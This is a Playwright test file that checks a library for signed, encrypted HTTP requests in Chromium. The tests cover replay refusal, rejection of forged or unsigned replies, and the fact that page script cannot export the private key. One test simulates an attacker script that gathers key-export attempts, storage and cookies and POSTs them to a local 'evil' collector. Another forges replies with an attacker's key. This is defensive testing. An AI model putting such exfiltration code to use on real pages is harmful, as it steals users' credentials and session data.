// Signed + encrypted requests end to end in real Chromium: the page generates a non-extractable
// key (WebCrypto, extractable: false), makes signed, encrypted requests to a local server running
// the real Express-style adapter, and shows the verified reply. THREATS.md 31-37 from the browser:
// the wire never carries the plaintext, a replay is refused, unsigned or forged replies throw,
// and a script in the page cannot read the secret key.
import { expect, type Page, test } from '@playwright/test';
import { generateSecretKey, getPublicKey } from '../../../src/signed/index.js';
import { loadSecretKey } from '../../../src/signed/keys.js';
import {
  contentDigest,
  RESPONSE_COMPONENTS,
  signatureBase,
  signatureHeaders,
  signatureParams,
} from '../../../src/signed/protocol.js';
import { createExpressAuth, type NodeMiddleware } from '../../../src/signed/server/index.js';
import { readBody, startCollector, startServer, type TestServer } from '../support/server.js';

let app: TestServer;
let evil: TestServer;
let serverKey = '';
let auth: NodeMiddleware | null = null;
let handled = 0;
const wire: { method: string; url: string; headers: Record<string, string>; body: string }[] = [];
const loot: string[] = [];

test.beforeAll(async () => {
  serverKey = generateSecretKey('ed25519');
  const publicKey = await getPublicKey(serverKey);
  app = await startServer(async (req, res, url) => {
    if (url.pathname === '/api/server-key') {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(publicKey);
      return true;
    }
    if (url.pathname === '/api/unsigned') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"fake":true}');
      return true;
    }
    if (url.pathname === '/api/forged') {
      // The attacker's reply: well-formed, bound to this very request (RFC 9421 `req` components),
      // but signed with the attacker's own key. The client must refuse it.
      const attacker = await loadSecretKey(generateSecretKey('ed25519'), 'attacker');
      const digest = contentDigest(new Uint8Array(0));
      const list = signatureParams(
        RESPONSE_COMPONENTS,
        Math.floor(Date.now() / 1000),
        attacker.publicKey.id,
        'ed25519',
      );
      const reqView = {
        method: req.method!,
        url: new URL(req.url!, app.origin),
        header: (n: string) => req.headers[n] as string | undefined,
      };
      const base = signatureBase(
        list,
        { status: 200, header: (n) => (n === 'content-digest' ? digest : undefined) },
        reqView,
      )!;
      const h = signatureHeaders(list, await attacker.sign(base));
      res.writeHead(200, { 'content-digest': digest, 'signature-input': h.input, signature: h.signature });
      res.end();
      return true;
    }
    if (!url.pathname.startsWith('/api/')) return false;
    const body = await readBody(req);
    const headers: Record<string, string> = {};
    for (const [k, v] of Object.entries(req.headers)) headers[k] = String(v);
    wire.push({ method: req.method!, url: req.url!, headers, body: body.toString('utf8') });
    (req as unknown as { body: Uint8Array }).body = body;
    auth ??= createExpressAuth({ key: serverKey, origin: app.origin });
    await auth(req as never, res as never, () => {
      handled++;
      const r = req as unknown as { body: unknown; session: { peerKey: string } };
      void (res as unknown as { secure: { json(v: unknown): Promise<unknown> } }).secure.json({
        got: r.body ?? null,
        path: url.pathname + url.search,
        peer: r.session.peerKey,
      });
    });
    return true;
  });
  evil = await startCollector(loot);
});
test.afterAll(async () => {
  await app.close();
  await evil.close();
});

async function open(page: Page, alg = 'ed25519'): Promise<Record<string, unknown>> {
  await page.goto(`${app.origin}/pages/signed/app.html?alg=${alg}`);
  await page.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
  return JSON.parse((await page.locator('#reply').textContent()) ?? '{}');
}

for (const alg of ['ed25519', 'p256']) {
  test(`${alg}: a non-extractable key signs and encrypts; the page shows the verified reply`, async ({
    page,
  }) => {
    wire.length = 0;
    const before = handled;
    const out = await open(page, alg);
    expect(out.error).toBeUndefined();
    expect(out.extractable).toBe(false);
    expect(out.status).toBe(200);
    expect(out.data).toMatchObject({ got: { note: 'top secret note' }, path: '/api/echo?n=1' });
    // A bodiless request reads as `{}`, as body-parser and crypto-sessions have it (never undefined).
    expect(out.get).toMatchObject({ path: '/api/echo?n=2' });
    expect((out.get as { got: unknown }).got).toStrictEqual({});
    expect(String((out.data as { peer: string }).peer)).toMatch(alg === 'ed25519' ? /^ed25519:/ : /^p256:/);
    expect(handled - before).toBe(2);
    // 33: the plaintext never crossed the wire; every request carried an RFC 9421 signature.
    expect(wire.length).toBe(2);
    for (const w of wire) {
      expect(w.body).not.toContain('secret');
      expect(w.headers['signature-input']).toContain('"@method" "@target-uri" "@authority" "content-digest"');
      expect(w.headers['signature-input']).toContain('nonce=');
    }
    // 34: an unsigned reply and a reply signed by another key both throw in the page.
    expect(out['/api/unsigned']).toBe('SignedResponseError:ERR_SIGNED_RESPONSE:unsigned');
    expect(out['/api/forged']).toBe('SignedResponseError:ERR_SIGNED_RESPONSE:key');
  });
}

test('32: a request captured on the wire cannot be replayed', async ({ page }) => {
  wire.length = 0;
  await open(page);
  const before = handled;
  const w = wire[0]!;
  const res = await fetch(`${app.origin}${w.url}`, { method: w.method, headers: w.headers, body: w.body });
  expect(res.status).toBe(401);
  expect(await res.text()).toBe('Unauthorized');
  expect(handled).toBe(before);
});

test('37: a script in the page cannot read the secret key, only (inherently) use the client', async ({
  page,
}) => {
  await open(page);
  const report = await page.evaluate(async (collect) => {
    const { keys, secureFetch } = (window as unknown as { app: { keys: CryptoKeyPair; secureFetch: object } })
      .app;
    const tries: Record<string, string> = {};
    for (const format of ['pkcs8', 'jwk', 'raw'] as const) {
      try {
        const k = await crypto.subtle.exportKey(format, keys.privateKey);
        tries[format] = JSON.stringify(k instanceof ArrayBuffer ? [...new Uint8Array(k)] : k);
      } catch (e) {
        tries[format] = `refused:${(e as Error).name}`;
      }
    }
    tries.fetchProps = JSON.stringify(Object.getOwnPropertyNames(secureFetch));
    tries.session = JSON.stringify((secureFetch as { session: unknown }).session);
    tries.storage = JSON.stringify({ ...localStorage, ...sessionStorage }) + document.cookie;
    await fetch(collect, { method: 'POST', mode: 'no-cors', body: JSON.stringify(tries) });
    return tries;
  }, `${evil.origin}/collect`);
  expect(report.pkcs8).toBe('refused:InvalidAccessError');
  expect(report.jwk).toBe('refused:InvalidAccessError');
  expect(report.raw).toMatch(/^refused:/);
  expect(report.storage).toBe('{}');
  // What reached the attacker holds no private key material (only public keys).
  expect(loot.join('')).not.toMatch(/"d":/);
  expect(loot.join('')).not.toContain('"pkcs8":"[');
});
